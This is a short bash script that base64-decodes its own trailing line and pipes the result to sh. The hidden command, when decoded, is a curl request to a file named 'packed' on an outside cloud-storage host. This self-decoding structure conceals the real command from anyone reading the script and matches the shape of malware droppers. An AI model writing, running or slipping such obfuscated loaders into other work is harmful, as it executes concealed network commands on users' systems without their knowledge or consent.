#!/bin/bash
tail -n +4 "$0" | base64 -d | sh
exit 0
Y3VybCBodHRwczovL29zcy1jbi1oYW5nemhvdS5hbGl5dW5jcy5jb20vcGFja2VkCg==
